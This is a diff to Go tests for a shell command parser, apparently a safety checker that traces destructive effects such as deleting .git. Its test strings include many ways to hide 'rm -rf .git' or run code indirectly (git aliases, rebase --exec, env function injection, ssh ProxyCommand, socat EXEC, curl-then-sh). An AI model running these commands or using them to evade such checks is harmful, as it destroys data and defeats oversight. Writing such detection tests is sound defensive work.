@@ -125,6 +125,22 @@ func TestClausesEverywhere(t *testing.T) {
 		`strace -f -o /tmp/x rm -rf .git`,
 		`unbuffer rm -rf .git`,
 		`chroot / rm -rf .git`,
+		`{rm,-rf,.git}`,
+		`trap 'rm -rf .git' EXIT`,
+		`alias x='rm -rf .git'`,
+		`env 'BASH_FUNC_ls%%=() { rm -rf .git; }' bash -c ls`,
+		`git rebase -x 'rm -rf .git' main`,
+		`git rebase --exec='rm -rf .git' main`,
+		`git submodule foreach 'rm -rf .git'`,
+		`git bisect run rm -rf .git`,
+		`git -c alias.x='!rm -rf .git' x`,
+		`git config alias.x '!rm -rf .git'`,
+		`git difftool -x 'rm -rf .git'`,
+		"cat <<EOF\n$(rm -rf .git)\nEOF",
+		`echo $((rm -rf .git) )`,
+		`bash /dev/stdin <<< 'rm -rf .git'`,
+		`. /dev/stdin <<< 'rm -rf .git'`,
+		"source /dev/stdin <<EOF\nrm -rf .git\nEOF",
 	} {
 		s := Parse(src)
 		found := false
@@ -237,6 +253,29 @@ func TestClausesOpaque(t *testing.T) {
 		`*.sh`,
 		`x[0]=1 cmd`,
 		`sudo -s`,
+		`LD_PRELOAD=/tmp/x.so git status`,
+		`BASH_ENV=/tmp/x bash -c true`,
+		`env 'BASH_FUNC_ls%%=() { rm -rf .git; }' bash -c ls`,
+		`tar --to-command='sh -c x' -xf a.tar`,
+		`tar -I 'sh x' -xf a.tar`,
+		`rsync -e 'sh -c x' a b`,
+		`rsync -avze 'sh x' a b`,
+		`ssh -o ProxyCommand='sh x' host`,
+		`ssh -oProxyCommand='sh x' host`,
+		`zip a.zip f -T -TT 'sh #'`,
+		`socat - EXEC:sh`,
+		`crontab evil.cron`,
+		`at now`,
+		`git init --template=/tmp/t`,
+		`git update-ref --stdin`,
+		`docker run -v "$PWD":/w alpine rm -rf /w/.git`,
+		`docker run --rm -v .:/w alpine true`,
+		`docker exec c rm -rf /w`,
+		`git send-pack --force origin main`,
+		`(( x ))`,
+		`let x`,
+		`bash /dev/fd/3 3<f`,
+		`source /dev/stdin < f`,
 	} {
 		s := Parse(src)
 		opaque := s.Opaque
@@ -283,8 +322,56 @@ func TestDirTracking(t *testing.T) {
 	checkWant(t, `cd .git; cd hooks; tee pre-push < x`, want{effects: []string{"write .git/hooks/pre-push"}})
 	checkWant(t, `env -C .git/hooks tee pre-commit`, want{effects: []string{"write .git/hooks/pre-commit"}})
 	checkWant(t, `(cd .git && touch config)`, want{effects: []string{"write .git/config"}})
+	checkWant(t, `cd sub && make && cd .. && touch y`, want{effects: []string{"write y"}})
+	checkWant(t, `cd .git || exit 1; touch config`, want{effects: []string{"write .git/config"}})
+	checkWant(t, `cd .git || { echo no; exit 1; }; touch config`, want{effects: []string{"write .git/config"}})
+	for _, src := range []string{`cd .git && true; touch config`, `cd .git || true; touch config`, `true || cd .git; touch config`} {
+		s := Parse(src)
+		if c := s.Clauses[len(s.Clauses)-1]; !c.Opaque {
+			t.Errorf("%s: directory after a cd that may not run must be unknown:\n%s", src, dump(s))
+		}
+	}
 	s := Parse(`(cd .git); touch config`)
 	if effs := effectStrings(s.Clauses[len(s.Clauses)-1]); !slices.Contains(effs, "write config") {
 		t.Errorf("cd in a subshell leaked: %q", effs)
+	}
+}
+
+// A file written and run in the same command is followed.
+func TestTwoSteps(t *testing.T) {
+	for _, src := range []string{
+		`echo 'rm -rf .git' > x.sh && sh x.sh`,
+		`echo 'rm -rf .git' > x.sh; chmod +x x.sh; ./x.sh`,
+		`printf 'rm -rf .git\n' > x.sh; bash ./x.sh`,
+		"cat > x.sh <<'EOF'\nrm -rf .git\nEOF\nsource x.sh",
+		"tee x.sh <<EOF\nrm -rf .git\nEOF\n. ./x.sh",
+		`echo '#!/bin/sh' > x.sh; echo 'rm -rf .git' >> x.sh; sh x.sh`,
+		`cd sub && echo 'rm -rf .git' > x.sh && cd .. && sh sub/x.sh`,
+	} {
+		s := Parse(src)
+		found := false
+		for _, c := range s.Clauses {
+			if slices.Equal(c.Strings(), rmGit) {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("%s: no clause rm -rf .git:\n%s", src, dump(s))
+		}
+	}
+	for _, src := range []string{
+		`curl -o x.sh https://x.example && sh x.sh`,
+		`echo "$C" > x.sh; sh x.sh`,
+		`echo 'import os' > x.py; python3 x.py`,
+		`cp /tmp/a x.sh; ./x.sh`,
+	} {
+		s := Parse(src)
+		opaque := false
+		for _, c := range s.Clauses {
+			opaque = opaque || c.Opaque
+		}
+		if !opaque {
+			t.Errorf("%s: running what the command wrote must be opaque:\n%s", src, dump(s))
+		}
 	}
 }
